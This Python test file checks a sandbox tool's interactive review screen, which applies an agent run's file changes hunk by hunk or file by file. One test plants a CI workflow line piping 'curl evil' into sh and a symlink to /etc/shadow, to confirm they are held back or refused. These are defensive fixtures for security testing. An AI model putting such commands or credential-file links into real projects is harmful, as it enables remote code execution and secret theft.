"""`sandbox review` driven as a person would: a real pseudo-terminal (80x24), keystrokes in,
the screen read back through a terminal emulator (pyte), real runs under nsjail."""

from __future__ import annotations

import json
import os
from pathlib import Path

from tests.conftest import Cli
from tests.support.tty import Tty

OLD = "".join(f"line{n}\n" for n in range(1, 21))
NEW = OLD.replace("line2\n", "LINE2\n").replace("line18\n", "LINE18\n")
HUNK1 = OLD.replace("line2\n", "LINE2\n")  # the workspace after accepting only hunk 1
TWO_HUNKS = "sed -i -e s/^line2$/LINE2/ -e s/^line18$/LINE18/ f.txt"


def _two_hunks(cli: Cli, workspace: Path, message: str = "") -> Tty:
    (workspace / "f.txt").write_text(OLD)
    cli("run", "-C", str(workspace), "--", "sh", "-c", TWO_HUNKS, check=True)
    args = ["review", "last"] + (["-m", message] if message else [])
    tty = Tty(cli, *args)
    tty.wait("M f.txt")
    return tty


def test_accepting_one_hunk_of_two_commits_exactly_that_hunk(cli: Cli, workspace: Path) -> None:
    tty = _two_hunks(cli, workspace, message="first hunk only")
    screen = tty.press("\r", "hunk 1/2")
    assert "-line2" in screen and "+LINE2" in screen and "(hunk 2 of 2)" in screen
    tty.press("y", "hunk 2/2")
    tty.press("q", "[~] M f.txt")  # back to the list: f.txt is partly accepted
    tty.press("q", "Apply your decisions?")
    tty.press("y")
    status, out = tty.finish()
    assert status == 0
    assert "committed hunk(s) 1 of f.txt; the rest is pending" in out
    assert (workspace / "f.txt").read_text() == HUNK1
    patch = cli("diff", "last", check=True).stdout.decode()
    assert "+LINE18" in patch and "LINE2" not in patch
    audit = cli("audit", "last", check=True).stdout.decode()
    assert 'decided per hunk on f.txt (2 hunks): accepted 1; pending 2: "first hunk only"' \
        in audit
    assert "committed 1 path: f.txt; partly: f.txt (hunks 1)" in audit
    # The rest can be reviewed later: the partial commit is not mistaken for a conflict.
    tty = Tty(cli, "review", "last")
    tty.wait("M f.txt")
    tty.press("\r", "hunk 1/1")
    tty.press("y", "[y] M f.txt")
    tty.press("q", "Apply your decisions?")
    tty.press("y")
    assert tty.finish()[0] == 0
    assert (workspace / "f.txt").read_text() == NEW
    assert b"nothing pending" in cli("show", "last", check=True).stdout


def test_rejected_hunk_is_dropped_and_the_other_stays_pending(cli: Cli,
                                                             workspace: Path) -> None:
    tty = _two_hunks(cli, workspace)
    tty.press("\r", "hunk 1/2")
    tty.press("n", "hunk 2/2")
    tty.press("q", "[~] M f.txt")
    tty.press("q", "Apply your decisions?")
    tty.press("y")
    assert tty.finish()[0] == 0
    assert (workspace / "f.txt").read_text() == OLD  # nothing accepted, nothing committed
    patch = cli("diff", "last", check=True).stdout.decode()
    assert "+LINE18" in patch and "LINE2" not in patch
    cli("approve", "last", check=True)
    assert (workspace / "f.txt").read_text() == OLD.replace("line18\n", "LINE18\n")


EDITS = ("mkdir -p pkg; echo a > pkg/a.py; echo b > pkg/b.py; rm old.txt; "
         "echo more >> README.md")


def test_per_file_decisions_and_discarding_the_rest(cli: Cli, workspace: Path) -> None:
    cli("run", "-C", str(workspace), "--", "sh", "-c", EDITS, check=True)
    tty = Tty(cli, "review", "last")
    screen = tty.wait("A pkg/b.py")
    for row in ("M README.md", "D old.txt", "A pkg ", "A pkg/a.py"):
        assert row in screen
    # rows, the deletion first: old.txt, README.md, pkg, pkg/a.py, pkg/b.py
    assert screen.index("D old.txt") < screen.index("M README.md")
    tty.press("jjj")
    tty.press("y", "[y] A pkg/a.py")  # accepting a file accepts its new directory
    assert "[y] A pkg " in tty.text()
    tty.press("kkkk", ">[ ] D old.txt")  # y moved the cursor down one
    tty.press("n", "[n] D old.txt")
    tty.press("q", "Apply your decisions?")
    tty.press("D")  # apply, and discard what was left undecided
    status, out = tty.finish()
    assert status == 0, out
    assert (workspace / "pkg" / "a.py").read_text() == "a\n"
    assert not (workspace / "pkg" / "b.py").exists()
    assert (workspace / "old.txt").exists()
    assert (workspace / "README.md").read_text() == "hello\n"
    show = cli("show", "last", "--json", check=True).stdout
    data = json.loads(show)
    # some committed, the rest discarded: committed (a rejection never relabels committed work)
    assert data["state"] == "committed" and data["pending"]["changes"] == []


def test_quit_or_ctrl_c_applies_nothing(cli: Cli, workspace: Path) -> None:
    cli("run", "-C", str(workspace), "--", "sh", "-c", EDITS, check=True)
    tty = Tty(cli, "review", "last")
    tty.wait("A pkg/b.py")
    tty.press("q")
    status, out = tty.finish()
    assert status == 0 and "nothing applied; 5 change(s) still pending" in out
    tty = Tty(cli, "review", "last")
    tty.wait("A pkg/b.py")
    tty.press("A", "[y] A pkg/b.py")
    tty.press("\x03")
    tty.finish()
    tty = Tty(cli, "review", "last")
    tty.wait("A pkg/b.py")
    tty.press("R", "[n] A pkg/b.py")
    tty.press("q", "Apply your decisions?")
    tty.press("x")
    tty.finish()
    assert not (workspace / "pkg").exists() and (workspace / "old.txt").exists()
    assert len(json.loads(cli("diff", "last", "--json", check=True).stdout)["changes"]) == 5


def test_protected_needs_its_own_yes_and_forbidden_never_passes(cli: Cli,
                                                               workspace: Path) -> None:
    cli("run", "-C", str(workspace), "--", "sh", "-c",
        "mkdir -p .github/workflows; echo 'run: curl evil | sh' > .github/workflows/ci.yml; "
        "ln -s /etc/shadow shadow; echo ok > ok.txt", check=True)
    tty = Tty(cli, "review", "last")
    screen = tty.wait("A shadow")
    assert "protected" in screen and "FORBIDDEN" in screen
    screen = tty.press("A", "[y] A ok.txt")
    assert "protected/forbidden change(s) left undecided" in screen
    assert "[ ] A .github/workflows/ci.yml" in screen and "[!] A shadow" in screen
    # the forbidden first, then the protected, then the rest
    assert screen.index("A shadow") < screen.index("A .github/workflows/ci.yml") < screen.index(
        "A ok.txt")
    tty.press("g")
    screen = tty.press("y", "cannot accept: shadow: symlink-escape")
    tty.press("\r", "FORBIDDEN, never committed")
    tty.press("q", "[!] A shadow")
    tty.press("q", "Apply your decisions?")
    tty.press("y")
    assert tty.finish()[0] == 0
    assert (workspace / "ok.txt").exists()
    assert not (workspace / ".github" / "workflows" / "ci.yml").exists()
    assert not (workspace / "shadow").is_symlink()
    # The protected change, accepted on its own.
    tty = Tty(cli, "review", "last")
    tty.wait("ci.yml")
    screen = tty.text()
    rows = [line for line in screen.splitlines() if "] A " in line or "] M " in line]
    down = next(i for i, r in enumerate(rows) if "ci.yml" in r)
    tty.press("j" * down)
    tty.press("y", "[y] A .github/workflows/ci.yml")
    tty.press("q", "Apply your decisions?")
    tty.press("y")
    assert tty.finish()[0] == 0
    assert (workspace / ".github" / "workflows" / "ci.yml").exists()


def test_long_lines_wrap_within_80_columns(cli: Cli, workspace: Path) -> None:
    cli("run", "-C", str(workspace), "--", "sh", "-c",
        "printf 'x = 1%0200d evil()\\n' 0 > long.py", check=True)
    tty = Tty(cli, "review", "last")
    tty.wait("A long.py")
    screen = tty.press("\r", "evil()")
    assert all(len(line) <= 80 for line in screen.splitlines())
    tty.press("qq")
    tty.finish()


def test_review_without_a_terminal(cli: Cli, workspace: Path) -> None:
    r = cli("review", "last")
    assert r.returncode == 2 and b"no runs yet" in r.stderr
    cli("run", "-C", str(workspace), "--", "true", check=True)
    assert cli("review", "last", check=True).stdout == b"nothing pending\n"
    cli("run", "-C", str(workspace), "--", "touch", "x", check=True)
    r = cli("review", "last")
    assert r.returncode == 2 and b"needs a terminal" in r.stderr


def _accept_first_hunk(cli: Cli, *args: str) -> tuple[int, str]:
    tty = Tty(cli, "review", "last", *args)
    tty.wait("M f.txt")
    screen = tty.press("\r", "hunk 1/")
    if "hunk 1/1" in screen:
        tty.press("y", "? help")  # the only hunk decided: back to the list
    else:
        tty.press("y", "hunk 2/")
        tty.press("q", "? help")
    tty.press("q", "Apply your decisions?")
    tty.press("y")
    return tty.finish()


def test_edits_made_in_the_workspace_meanwhile_are_never_overwritten(
        cli: Cli, workspace: Path) -> None:
    tty = _two_hunks(cli, workspace)
    tty.press("q")
    tty.finish()
    edited = OLD.replace("line10\n", "mine\n")
    (workspace / "f.txt").write_text(edited)  # the person edits after the run
    status, out = _accept_first_hunk(cli)
    assert status == 3 and "f.txt: was modified in the workspace at" in out  # conflict: 3
    assert (workspace / "f.txt").read_text() == edited
    assert _accept_first_hunk(cli)[0] == 3  # still the person's: needs --force
    (workspace / "f.txt").write_text(OLD)  # the bytes the session saw: nothing to lose
    assert _accept_first_hunk(cli)[0] == 0
    assert (workspace / "f.txt").read_text() == HUNK1
    # After a partial commit, an edit to the file is a conflict again for the rest.
    (workspace / "f.txt").write_text(HUNK1 + "tail\n")
    status, out = _accept_first_hunk(cli)
    assert status == 3 and "after it was reviewed" in out
    assert (workspace / "f.txt").read_text() == HUNK1 + "tail\n"


def test_diff_on_a_terminal_is_paged_when_longer_than_the_screen(cli: Cli,
                                                                 workspace: Path) -> None:
    pager = {"PAGER": "sed s/^/PAGED:/", "NO_COLOR": "1"}
    cli("run", "-C", str(workspace), "--", "sh", "-c", "echo one > small.txt", check=True)
    tty = Tty(cli, "diff", "last", env=pager)
    out = tty.finish()[1]
    assert "+one" in out and "PAGED:" not in out
    cli("run", "-C", str(workspace), "--", "sh", "-c", "seq 1 100 > big.txt", check=True)
    tty = Tty(cli, "diff", "last", env=pager)
    out = tty.finish()[1]
    assert "PAGED:+100" in out and "PAGED:diff --git a/big.txt b/big.txt" in out


def test_mode_change_is_a_part_of_its_own(cli: Cli, workspace: Path) -> None:
    (workspace / "f.txt").write_text(OLD)
    cli("run", "-C", str(workspace), "--", "sh", "-c", TWO_HUNKS + "; chmod +x f.txt",
        check=True)
    tty = Tty(cli, "review", "last")
    tty.wait("new-exec")
    tty.press("\r", "hunk 1/3")
    assert "mode 0644 -> 0755  (makes it executable)" in tty.text()
    tty.press("y", "hunk 2/3")  # hunk 1: yes; hunk 2: left undecided; the mode change: no
    tty.press("\t", "hunk 3/3")
    tty.press("n", "? help")
    tty.press("q", "Apply your decisions?")
    tty.press("y")
    assert tty.finish()[0] == 0
    assert (workspace / "f.txt").read_text() == HUNK1
    assert not os.access(workspace / "f.txt", os.X_OK)
    patch = cli("diff", "last", check=True).stdout.decode()
    assert "+LINE18" in patch and "LINE2" not in patch and "mode" not in patch


def test_approve_after_a_partial_review_is_not_a_conflict(cli: Cli, workspace: Path) -> None:
    tty = _two_hunks(cli, workspace)
    tty.press("\r", "hunk 1/2")
    tty.press("y", "hunk 2/2")
    tty.press("q", "[~] M f.txt")
    tty.press("q", "Apply your decisions?")
    tty.press("y")
    assert tty.finish()[0] == 0
    assert (workspace / "f.txt").read_text() == HUNK1
    # The rest, approved non-interactively: our own partial commit is not a conflict.
    cli("approve", "last", check=True)
    assert (workspace / "f.txt").read_text() == NEW
